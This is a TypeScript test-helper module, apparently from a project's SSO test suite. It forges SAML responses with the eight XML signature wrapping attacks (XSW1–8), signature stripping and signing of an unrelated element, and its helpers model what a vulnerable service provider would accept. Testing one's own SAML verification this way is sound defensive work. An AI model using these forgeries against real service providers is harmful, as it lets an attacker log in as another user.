/**
 * Attack documents, made from responses our test IdP really signed
 * (docs/sso.md#saml-attacks). The eight XML signature wrapping variants are
 * those of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
 * (USENIX Security 2012), as SAML Raider applies them: XSW1-2 wrap a signed
 * Response, XSW3-8 a signed Assertion. In each, the signature still verifies
 * over the original element, and the document carries an evil copy that
 * claims another subject where a careless reader would look.
 *
 * Each function returns the modified base64 SAMLResponse; the "naive"
 * helpers say what a vulnerable service provider would have concluded.
 */
import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom'
import { SignedXml } from 'xml-crypto'
import type { Identity } from './saml-idp.js'

export const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol'
export const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion'
export const DS = 'http://www.w3.org/2000/09/xmldsig#'

export function open(encoded: string): Document {
  return new DOMParser().parseFromString(Buffer.from(encoded, 'base64').toString('utf8'), 'text/xml')
}

export function seal(document: Document): string {
  return Buffer.from(new XMLSerializer().serializeToString(document), 'utf8').toString('base64')
}

function root(document: Document): Element {
  const element = document.documentElement
  if (!element) throw new Error('empty document')
  return element
}

/** The direct children of `parent` named `{ns}name`. */
function children(parent: Element, ns: string, name: string): Element[] {
  return Array.from(parent.childNodes).filter(
    (node): node is Element => node.nodeType === 1 && (node as Element).namespaceURI === ns && (node as Element).localName === name,
  )
}

function only(parent: Element, ns: string, name: string): Element {
  const [found] = children(parent, ns, name)
  if (!found) throw new Error(`no ${name} in ${parent.localName}`)
  return found
}

function assertionOf(document: Document): Element {
  return only(root(document), SAML, 'Assertion')
}

function signatureOf(element: Element): Element {
  return only(element, DS, 'Signature')
}

/** Makes an assertion claim `victim`: its NameID and any email attribute. */
export function impersonate(assertion: Element, victim: string): void {
  const document = assertion.ownerDocument
  if (!document) throw new Error('detached assertion')
  const nameIds = Array.from(assertion.getElementsByTagNameNS(SAML, 'NameID'))
  const values = Array.from(assertion.getElementsByTagNameNS(SAML, 'Attribute'))
    .filter((attribute) => /mail/i.test(attribute.getAttribute('Name') ?? ''))
    .flatMap((attribute) => Array.from(attribute.getElementsByTagNameNS(SAML, 'AttributeValue')))
  for (const element of [...nameIds, ...values]) {
    while (element.firstChild) element.removeChild(element.firstChild)
    element.appendChild(document.createTextNode(victim))
  }
}

type Wrap = (document: Document, victim: string) => void

/** XSW1: the signed Response is copied (unsigned) into its own Signature; the root becomes the evil Response. */
const xsw1: Wrap = (document, victim) => {
  const response = root(document)
  const original = response.cloneNode(true) as Element
  original.removeChild(signatureOf(original))
  impersonate(assertionOf(document), victim)
  signatureOf(response).appendChild(original)
  response.setAttribute('ID', '_evil_response')
}

/** XSW2: as XSW1, the copy placed before the Signature instead of inside it. */
const xsw2: Wrap = (document, victim) => {
  const response = root(document)
  const original = response.cloneNode(true) as Element
  original.removeChild(signatureOf(original))
  impersonate(assertionOf(document), victim)
  const signature = signatureOf(response)
  response.insertBefore(original, signature)
  response.setAttribute('ID', '_evil_response')
}

/** An unsigned evil copy of the signed assertion, with a new ID. */
function evilCopy(assertion: Element, victim: string, newId = true): Element {
  const evil = assertion.cloneNode(true) as Element
  evil.removeChild(signatureOf(evil))
  impersonate(evil, victim)
  if (newId) evil.setAttribute('ID', '_evil_assertion')
  return evil
}

/** XSW3: the evil copy is inserted before the signed assertion. */
const xsw3: Wrap = (document, victim) => {
  const assertion = assertionOf(document)
  root(document).insertBefore(evilCopy(assertion, victim), assertion)
}

/** XSW4: the evil copy takes the assertion's place, the signed assertion moved inside it. */
const xsw4: Wrap = (document, victim) => {
  const assertion = assertionOf(document)
  const evil = evilCopy(assertion, victim)
  root(document).appendChild(evil)
  evil.appendChild(assertion)
}

/** XSW5: the signed assertion is altered in place (its signature kept, a new ID); an unsigned copy of the original is appended to the Response. */
const xsw5: Wrap = (document, victim) => {
  const assertion = assertionOf(document)
  const original = assertion.cloneNode(true) as Element
  original.removeChild(signatureOf(original))
  impersonate(assertion, victim)
  assertion.setAttribute('ID', '_evil_assertion')
  root(document).appendChild(original)
}

/** XSW6: as XSW5, the unsigned original copied into the kept Signature. */
const xsw6: Wrap = (document, victim) => {
  const assertion = assertionOf(document)
  const original = assertion.cloneNode(true) as Element
  original.removeChild(signatureOf(original))
  impersonate(assertion, victim)
  assertion.setAttribute('ID', '_evil_assertion')
  signatureOf(assertion).appendChild(original)
}

/** XSW7: an Extensions element before the signed assertion holds an evil copy (same ID). */
const xsw7: Wrap = (document, victim) => {
  const assertion = assertionOf(document)
  const extensions = document.createElementNS(SAMLP, 'samlp:Extensions')
  root(document).insertBefore(extensions, assertion)
  extensions.appendChild(evilCopy(assertion, victim, false))
}

/** XSW8: the signed assertion is altered in place (same ID); the unsigned original sits in an Object inside its Signature. */
const xsw8: Wrap = (document, victim) => {
  const assertion = assertionOf(document)
  const original = assertion.cloneNode(true) as Element
  original.removeChild(signatureOf(original))
  impersonate(assertion, victim)
  const object = document.createElementNS(DS, 'ds:Object')
  signatureOf(assertion).appendChild(object)
  object.appendChild(original)
}

export const XSW = { XSW1: xsw1, XSW2: xsw2, XSW3: xsw3, XSW4: xsw4, XSW5: xsw5, XSW6: xsw6, XSW7: xsw7, XSW8: xsw8 } as const

export function wrap(encoded: string, variant: keyof typeof XSW, victim: string): string {
  const document = open(encoded)
  XSW[variant](document, victim)
  return seal(document)
}

/**
 * What a careless SP reads as the subject: Assertion/Subject/NameID of the
 * Response's assertion, or (XSW7's target, SPs that search with
 * `//Assertion`) of the first assertion in the document; and only the
 * NameID's first text node.
 */
export function naiveSubject(encoded: string, search: 'child' | 'document' = 'child'): string {
  const document = open(encoded)
  const assertion = search === 'child' ? assertionOf(document) : document.getElementsByTagNameNS(SAML, 'Assertion')[0]
  const subject = assertion ? children(assertion, SAML, 'Subject')[0] : undefined
  const nameId = subject ? children(subject, SAML, 'NameID')[0] : undefined
  return nameId?.firstChild?.nodeValue ?? ''
}

/** Whether the first Signature in the document verifies with `cert` (what an SP checking "a valid signature exists" sees). */
export function naiveSignatureValid(encoded: string, cert: string): boolean {
  const xml = Buffer.from(encoded, 'base64').toString('utf8')
  const signature = new DOMParser().parseFromString(xml, 'text/xml').getElementsByTagNameNS(DS, 'Signature')[0]
  if (!signature) return false
  const verifier = new SignedXml({ publicCert: cert })
  verifier.loadSignature(signature as unknown as Node)
  try {
    return verifier.checkSignature(xml)
  } catch {
    return false
  }
}

/**
 * A response whose only signature, by the IdP's own key, covers its Status
 * element: a valid signature of the IdP over something else than what the
 * SP reads, around an unsigned assertion claiming `victim`.
 */
export function signOtherElement(unsignedXml: string, idp: Identity, victim: string): string {
  const document = new DOMParser().parseFromString(unsignedXml, 'text/xml')
  impersonate(assertionOf(document), victim)
  only(root(document), SAMLP, 'Status').setAttribute('ID', '_status')
  const xml = new XMLSerializer().serializeToString(document)
  const signer = new SignedXml({
    privateKey: idp.key,
    publicCert: idp.cert,
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
    signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  })
  signer.addReference({
    xpath: "/*[local-name(.)='Response']/*[local-name(.)='Status']",
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
  })
  signer.computeSignature(xml, {
    prefix: 'ds',
    location: { reference: "/*[local-name(.)='Response']/*[local-name(.)='Issuer']", action: 'after' },
  })
  return Buffer.from(signer.getSignedXml(), 'utf8').toString('base64')
}

/** The response with every Signature removed. */
export function stripSignatures(encoded: string): string {
  const document = open(encoded)
  for (const signature of Array.from(document.getElementsByTagNameNS(DS, 'Signature'))) signature.parentNode?.removeChild(signature)
  return seal(document)
}
